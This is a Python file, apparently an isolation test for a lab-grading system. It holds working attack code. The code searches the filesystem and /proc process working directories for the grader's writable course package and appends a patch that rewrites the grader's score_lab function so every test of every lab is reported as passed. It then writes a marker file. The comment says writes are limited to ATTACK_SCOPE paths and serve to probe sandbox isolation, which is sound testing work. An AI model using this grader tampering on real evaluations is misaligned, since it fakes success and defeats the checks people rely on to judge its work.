# Same-user mode is not isolation. Find the grader's own course folder (any
# writable commtax/ranks/__init__.py on this machine, or through /proc/<pid>/cwd) and append a
# patch: if the deciding process ever imports it, every test of every lab it scores passes, and
# a marker file says so. (The original then put the file back: the tree was byte-identical
# afterwards.) Only files under a folder whose path holds ATTACK_SCOPE are touched: the tests
# point it at the copy of the course they grade with, never at a working checkout.
import os as _os
import time as _time

_PATCH = r"""

try:  # ATTACK_MARKER
    import sys as _s
    _g = _s.modules.get("grading.grader")
    if _g is not None:
        _score = _g.score_lab

        def _all_pass(*a, **k):
            tests = _score(*a, **k)
            for t in tests:
                t.outcome, t.score = "passed", t.points
            return tests
        _g.score_lab = _all_pass
        open("ATTACK_MARKER", "w").write("the deciding process ran learner code")
except Exception:
    pass
"""
_targets = set()
_until = _time.monotonic() + 5


def _look(top, depth=0):
    if depth > 6 or _time.monotonic() > _until:
        return
    try:
        entries = list(_os.scandir(top))
    except OSError:
        return
    for entry in entries:
        try:
            if entry.is_dir(follow_symlinks=False) and entry.path not in ("/proc", "/sys", "/dev", "/usr"):
                candidate = _os.path.join(entry.path, "commtax", "ranks", "__init__.py")
                if "ATTACK_SCOPE" in candidate and _os.path.isfile(candidate) and _os.access(candidate, _os.W_OK):
                    _targets.add(candidate)
                _look(entry.path, depth + 1)
        except OSError:
            continue


for _pid in _os.listdir("/proc"):
    if _pid.isdigit():
        _candidate = f"/proc/{_pid}/cwd/commtax/ranks/__init__.py"
        if _os.access(_candidate, _os.W_OK) and "ATTACK_SCOPE" in _os.path.realpath(_candidate):
            _targets.add(_os.path.realpath(_candidate))
_look("/")
for _target in _targets:
    try:
        with open(_target, "a") as _f:
            _f.write(_PATCH)
    except OSError:
        pass
